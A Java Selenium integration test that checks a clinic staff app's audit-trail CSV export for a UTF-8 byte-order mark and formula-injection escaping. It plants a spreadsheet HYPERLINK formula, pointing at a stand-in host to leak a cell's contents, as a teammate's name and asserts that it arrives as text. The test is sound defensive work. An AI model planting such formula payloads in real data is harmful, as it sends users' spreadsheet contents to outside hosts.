package app.staffroom.browser;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import app.staffroom.team.TeammateService;
import app.staffroom.team.TeammateStatus;
import app.staffroom.testing.Fixtures;
import app.staffroom.testing.Fixtures.Clinic;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.r2dbc.core.DatabaseClient;

/**
 * An administrator exports the audit trail from the Audit trail screen in a real browser (Debian's
 * headless Chromium, downloading into a folder of its own): the file is UTF-8 with a byte-order mark, and
 * a name that a spreadsheet would run as a formula arrives as text.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class AuditExportInBrowserTest {

    private static final String HYPERLINK = "=HYPERLINK(\"https://x.invalid/?\"&A1,\"Open\")";
    private static final Duration PATIENCE = Duration.ofSeconds(20);

    @LocalServerPort
    int port;

    @Autowired
    Fixtures fixtures;

    @Autowired
    TeammateService teammates;

    @Autowired
    DatabaseClient db;

    private Path downloads;
    private WebDriver browser;

    @BeforeEach
    void openBrowser() throws IOException {
        downloads = Files.createDirectories(Path.of("target", "browser-downloads", UUID.randomUUID().toString()))
                .toAbsolutePath();
        browser = browser(downloads);
    }

    @AfterEach
    void closeBrowser() {
        browser.quit();
    }

    @Test
    void the_downloaded_audit_csv_starts_with_a_byte_order_mark_and_holds_the_formula_name_as_text() throws IOException {
        Clinic clinic = fixtures.newClinic();
        UUID admin = fixtures.addTeammate(clinic, clinic.adminRole(), TeammateStatus.ACTIVE);
        UUID leaving = fixtures.addTeammate(clinic, clinic.frontDeskRole(), TeammateStatus.ACTIVE);
        db.sql("update account set first_name = :name where id = (select account_id from teammate where id = :t)")
                .bind("name", HYPERLINK).bind("t", admin).then().block(PATIENCE);
        teammates.deactivate(fixtures.actor(admin), leaving, 0, "Moved away").block(PATIENCE);
        signIn(fixtures.email(admin));
        wait(browser).until(ExpectedConditions.presenceOfElementLocated(By.xpath("//vaadin-tab")));

        browser.get("http://localhost:" + port + "/audit");
        wait(browser).until(ExpectedConditions.elementToBeClickable(By.xpath(
                "//vaadin-button[normalize-space(.)='Export CSV']"))).click();
        wait(browser).until(ExpectedConditions.elementToBeClickable(By.id("audit-download"))).click();

        Path file = downloads.resolve("audit-trail.csv");
        await().atMost(PATIENCE).until(() -> Files.exists(file) && !Files.exists(downloads.resolve("audit-trail.csv.crdownload")));
        byte[] bytes = Files.readAllBytes(file);
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        CSVRecord deactivation = rows(bytes).stream()
                .filter(row -> row.get("action").equals("TEAMMATE_DEACTIVATED")).findFirst().orElseThrow();
        assertThat(deactivation.get("actor")).startsWith("'" + HYPERLINK + " Person");
    }

    private WebDriver browser(Path downloadDirectory) {
        return Browsers.open(downloadDirectory);
    }

    private void signIn(String email) {
        Browsers.signIn(browser, port, email);
    }

    private static WebDriverWait wait(WebDriver browser) {
        return Browsers.wait(browser);
    }

    private static List<CSVRecord> rows(byte[] file) throws IOException {
        String text = new String(file, StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVParser.parse(new StringReader(text),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            return parser.getRecords();
        }
    }
}
